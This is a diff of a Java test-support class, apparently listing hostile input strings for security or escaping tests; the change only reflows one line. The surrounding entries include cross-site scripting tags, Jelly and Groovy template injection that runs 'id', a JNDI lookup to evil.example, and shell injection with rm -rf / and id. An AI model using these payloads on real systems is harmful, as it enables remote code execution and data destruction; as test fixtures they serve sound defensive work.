@@ -25,7 +25,9 @@ public final class Attacks {
         words.put("homoglyphs", "\u0440\u0430\u0455\u0455\u0435d");
         words.put("stacked marks", "Z" + "\u0300\u0489".repeat(500));
         words.put("html", "<script>alert(1)</script><img src=x onerror=alert(2)>\"' &amp;");
-        words.put("jelly", "${app.getDescriptor('x').doReload()} <j:jelly xmlns:j=\"jelly:core\"><st:include/></j:jelly>");
+        words.put(
+                "jelly",
+                "${app.getDescriptor('x').doReload()} <j:jelly xmlns:j=\"jelly:core\"><st:include/></j:jelly>");
         words.put("groovy", "${'id'.execute().text} #{7*7} @groovy.transform.ASTTest(value={assert 1})");
         words.put("jndi", "${jndi:ldap://evil.example/a}");
         words.put("shell", "$(touch /tmp/owned) `id` ; rm -rf / | sh && echo");
